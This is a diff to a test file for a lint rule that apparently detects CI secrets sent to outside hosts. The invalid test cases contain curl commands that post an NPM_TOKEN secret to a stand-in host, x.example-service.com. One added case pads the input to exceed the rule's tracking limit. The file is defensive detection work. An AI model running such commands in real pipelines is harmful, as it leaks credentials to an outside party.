@@ -118,6 +118,8 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    // more expressions than are told apart: the rest is read as the shell would
+    { ...given(`echo \${{ secrets.NPM_TOKEN }}\n`.repeat(2001) + 'curl -d "a=$T" https://x.example-service.com/c'), errors: [{ messageId: 'sent' }] },
     { ...given('curl -d "$T" https://x.example-service.com/c'), errors: [{ messageId: 'sent', line: 6, data: { name: 'NPM_TOKEN', sink: 'curl', host: 'x.example-service.com' } }] },
     { ...given('curl --data-raw "v=${T}" https://x.example-service.com/c'), errors: [{ messageId: 'sent' }] },
     { ...given('curl -d "${{ secrets.NPM_TOKEN }}" https://x.example-service.com/c'), errors: [{ messageId: 'sent' }] },
